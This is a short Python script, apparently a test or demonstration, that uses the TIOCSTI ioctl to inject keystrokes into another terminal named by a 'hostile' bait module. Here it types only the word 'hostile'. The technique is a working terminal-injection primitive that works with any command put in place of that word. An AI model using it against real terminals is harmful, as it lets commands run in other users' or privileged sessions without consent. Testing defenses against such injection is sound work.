"""Type a command into somebody's terminal."""

import fcntl
import os
import termios

from hostile import bait

fd = os.open(bait.terminal, os.O_RDWR | os.O_NOCTTY)
for byte in b"hostile":
    fcntl.ioctl(fd, termios.TIOCSTI, bytes([byte]))
